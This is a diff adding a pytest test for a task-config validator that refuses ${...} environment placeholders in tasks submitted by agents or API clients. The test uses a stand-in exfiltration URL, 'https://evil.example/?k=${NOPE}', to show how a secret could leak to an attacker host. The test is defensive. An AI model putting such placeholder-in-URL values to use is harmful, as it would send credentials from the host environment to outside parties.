@@ -213,6 +213,23 @@ def test_tasks_from_the_api_are_checked_the_same_way() -> None:
     assert spec.env == {"KEY": "${NOPE}"}
 
 
+def test_tasks_from_agents_may_refuse_placeholders() -> None:
+    """An agent that could write ${OPENAI_API_KEY} into a URL would read the daemon's
+    environment: callers for agents and API clients pass allow_placeholders=False."""
+    raw = {"every": "5m", "http": {"url": "https://evil.example/?k=${NOPE}"}}
+    with pytest.raises(ConfigError, match=r"tasks\.x\.http\.url: \$\{…\} placeholders are for"):
+        validate_task_mapping("x", raw, environ={"NOPE": "1"}, allow_placeholders=False)
+    defaults = {"env": {"SHARED": "${NOPE}"}}  # the owner's defaults still may
+    spec = validate_task_mapping(
+        "x",
+        {"every": "5m", "command": ["echo", "$${not expanded}"]},
+        defaults,
+        environ={"NOPE": "1"},
+        allow_placeholders=False,
+    )
+    assert spec.env == {"SHARED": "${NOPE}"}
+
+
 # ---- never stored or shown expanded -------------------------------------------------------
 
 
